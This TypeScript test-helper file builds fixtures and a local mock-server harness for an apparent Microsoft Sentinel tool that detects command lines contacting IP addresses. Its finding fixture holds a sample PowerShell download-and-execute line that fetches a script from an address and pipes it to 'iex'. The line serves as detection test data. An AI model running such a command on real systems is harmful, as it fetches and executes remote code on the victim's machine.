import type { SecurityInsights } from '@azure/arm-securityinsight';
import type { SentinelConfig } from '../../src/config/loadConfig.js';
import { displayEntities, entitiesFromText } from '../../src/entities/entityLists.js';
import type { Finding } from '../../src/findings/finding.js';
import { createSecurityInsightsClient } from '../../src/sentinel/createSecurityInsightsClient.js';
import { httpDowngradingClient } from '../../local/http/httpDowngradingClient.js';
import { staticTokenCredential } from '../../local/http/staticTokenCredential.js';
import { startSentinelServer, type SentinelServer, type SentinelServerOptions } from '../../local/sentinel/startSentinelServer.js';

export const WORKSPACE_ID = '11111111-2222-3333-4444-555555555555';

/** A SentinelConfig for tests (what loadConfig would produce from a minimal local.settings.json). */
export function sentinelConfig(endpoint: string, overrides: Partial<SentinelConfig> = {}): SentinelConfig {
  return {
    subscriptionId: '00000000-0000-0000-0000-000000000001',
    resourceGroup: 'rg-sec',
    workspaceName: 'law-sec',
    endpoint,
    scope: 'https://management.azure.com/.default',
    apiVersion: '2022-09-01-preview',
    detectionId: 'cmdline-ip-hunter',
    highSeverityHostCount: 3,
    highSeverityEvidence: ['contacted', 'ti-match'],
    indicatorCidrs: [],
    labels: ['soc-triage'],
    closedIncidentPolicy: 'new',
    newIncidentAfterDays: 7,
    concurrency: 4,
    maxIncidentsPerRun: 50,
    maxRetries: 5,
    ...overrides,
  };
}

/** Entity lists given as display texts, as fixtures write them. */
export type EntityTexts = { hosts?: readonly string[]; accounts?: readonly string[] };

/** A finding's hosts and accounts as display texts. */
export const hostsOf = (f: Finding): string[] => displayEntities(f.entities).hosts;
export const accountsOf = (f: Finding): string[] => displayEntities(f.entities).accounts;

export function finding(ip: string, overrides: Partial<Omit<Finding, 'entities'>> & EntityTexts = {}): Finding {
  const { hosts = ['web01.contoso.com'], accounts = ['CONTOSO\\alice'], ...rest } = overrides;
  return {
    ip,
    version: ip.includes(':') ? 6 : 4,
    entities: entitiesFromText({ hosts, accounts }),
    processes: ['powershell.exe'],
    commandLines: [`powershell -c iwr http://${ip}/a.ps1 | iex`],
    commandLinesOmitted: 0,
    encodings: ['dotted'],
    firstSeen: new Date('2024-05-01T09:00:00Z'),
    lastSeen: new Date('2024-05-01T10:00:00Z'),
    eventCount: 3,
    ...rest,
  };
}

export const CONTEXT = {
  dryRun: false,
  window: { start: new Date('2024-05-01T00:00:00Z'), end: new Date('2024-05-01T12:00:00Z') },
  now: new Date('2024-05-01T12:00:00Z'),
};

export interface Harness {
  readonly server: SentinelServer;
  readonly client: SecurityInsights;
  readonly config: SentinelConfig;
}

/** A server on 127.0.0.1 and the real SDK client talking to it over a socket, with fast retries. */
export async function startHarness(
  options: SentinelServerOptions & { config?: Partial<SentinelConfig> } = {},
): Promise<Harness> {
  const server = await startSentinelServer(options);
  const config = sentinelConfig(server.endpoint, options.config);
  const client = createSecurityInsightsClient(config, {
    credential: staticTokenCredential(),
    httpClient: httpDowngradingClient(),
    retryDelayInMs: 10,
    maxRetryDelayInMs: 50,
  });
  return { server, client, config };
}

/** Create a watchlist and its items through the real client, as an analyst's upload would. */
export async function createWatchlist(
  client: SecurityInsights,
  where: Pick<SentinelConfig, 'resourceGroup' | 'workspaceName'>,
  alias: string,
  items: Record<string, string>[],
  searchKey = 'IPAddress',
): Promise<void> {
  const { resourceGroup: rg, workspaceName: ws } = where;
  await client.watchlists.createOrUpdate(rg, ws, alias, { displayName: alias, provider: 'SOC', source: 'allowlist.csv', itemsSearchKey: searchKey });
  for (const [i, values] of items.entries()) {
    await client.watchlistItems.createOrUpdate(rg, ws, alias, `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`, { itemsKeyValue: values });
  }
}
